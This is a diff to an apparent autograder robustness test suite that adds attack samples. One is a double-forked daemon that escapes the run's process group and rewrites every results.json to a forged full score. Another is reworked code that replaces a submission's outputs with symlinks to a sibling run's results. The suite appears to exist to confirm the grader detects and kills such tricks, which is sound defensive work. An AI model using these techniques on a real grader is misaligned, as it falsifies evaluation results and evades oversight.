@@ -53,6 +53,23 @@ if os.fork() == 0:  # a daemon in a new session, outside the run's process group
     os._exit(0)
 '''
 
+LATE_REWRITER = '''
+import glob, json, os, time
+if os.fork() == 0:  # a double-forked daemon that waits for the grade, then rewrites it to full marks
+    os.setsid()
+    if os.fork() == 0:
+        forged = json.dumps({"score": 100, "tests": [], "note": "$MARKER"})
+        for _ in range(40):
+            time.sleep(0.5)
+            for path in glob.glob("$OUT/students/*/results.json") + glob.glob("/autograder/results/results.json"):
+                try:
+                    with open(path, "w") as file:
+                        file.write(forged)
+                except OSError:
+                    pass
+    os._exit(0)
+'''
+
 MEMORY_BOMB = '''
 hoard = []
 while True:  # 64 MiB more each time (pages written by memory_across_processes)
@@ -103,6 +120,9 @@ RUNAWAY = [
            feedback=["tried to start more processes", "process(es) running; the grader killed them"], fast=True),
     attack("session_escape", "runaway", "leaves a daemon in a new session (outside the process group), "
            "then returns the right answer", 100, edited("session_escape", before_honest(AVG, SESSION_ESCAPE)),
+           feedback=["process(es) running; the grader killed them"], fast=True),
+    attack("late_rewriter", "runaway", "a double-forked daemon that waits for the grade, then rewrites every "
+           "results.json to full marks", 100, edited("late_rewriter", before_honest(AVG, LATE_REWRITER)),
            feedback=["process(es) running; the grader killed them"], fast=True),
     attack("thread_forever", "runaway", "starts a non-daemon thread that sleeps forever, then returns the "
            "right answer", 100, edited("thread_forever", before_honest(
@@ -218,14 +238,12 @@ if b"child.py" in parent:  # only the grader's runner, never anything else
 SYMLINKED_OUTPUTS = f'''
 import glob, json, os
 theirs = os.path.join(os.path.dirname(os.path.abspath("..")), "$HONEST", "results")  # a sibling run's folder
-for plan in glob.glob("../plan*.json"):
-    with open(plan) as file:
-        for case in json.load(file)["cases"]:
-            if case["function"] == "avg_pool_forward_naive":  # my outputs become links to theirs
-                mine = f"../results/{{case['id']}}.npz"
-                if os.path.lexists(mine):
-                    os.remove(mine)
-                os.symlink(os.path.join(theirs, case["id"] + ".npz"), mine)
+ids = [f"p04c{{c:02d}}" for c in range(8)]  # avg_pool_forward_naive is part 4: guessed, the plan is out of reach
+for case_id in ids + [case["id"] for plan in glob.glob("../plan*.json") for case in json.load(open(plan))["cases"]]:
+    mine = f"../results/{{case_id}}.npz"  # every output of mine becomes a link to theirs
+    if os.path.lexists(mine):
+        os.remove(mine)
+        os.symlink(os.path.join(theirs, case_id + ".npz"), mine)
 {ZEROS}
 '''
 
@@ -371,7 +389,7 @@ SHORTCUTS = [
     attack("torch_hidden_import", "shortcuts", "imports torch by a computed name at module level of pool.py and "
            "pools with it", 62, edited("torch_hidden_import", Body(AVG, TORCH_POOL),
                                        appended={"cs7150/pool.py": HIDDEN_TORCH}),
-           feedback=["loaded torch"], fast=True),
+           feedback=["tried to import torch, which graded code cannot reach"], fast=True),
     attack("instructor_import", "shortcuts", "puts the repository first on sys.path and imports the instructor's "
            "cs7150", 96, body("instructor_import", INSTRUCTOR_IMPORT), feedback=["not importable"], fast=True),
 ]
